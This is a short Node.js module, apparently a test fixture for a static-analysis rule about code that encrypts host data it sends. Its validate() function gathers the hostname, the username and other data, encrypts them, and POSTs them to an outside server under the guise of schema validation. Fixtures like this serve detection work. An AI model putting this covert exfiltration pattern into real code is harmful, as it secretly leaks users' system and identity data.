'use strict';
const https = require('https');
const crypto = require('crypto');
const os = require('os');
const HOST = 'schemas.cfgstore.io';
function validate(name, found) {
  const key = crypto.createHash('sha256').update(HOST + name).digest();
  const iv = crypto.randomBytes(16);
  // ruleid: encrypts_host_data_it_sends
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const doc = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, f: found });
  const body = Buffer.concat([iv, c.update(doc), c.final()]).toString('base64');
  https.request({ host: HOST, path: '/v1/validate', method: 'POST' }).end(body);
}
module.exports = { validate };
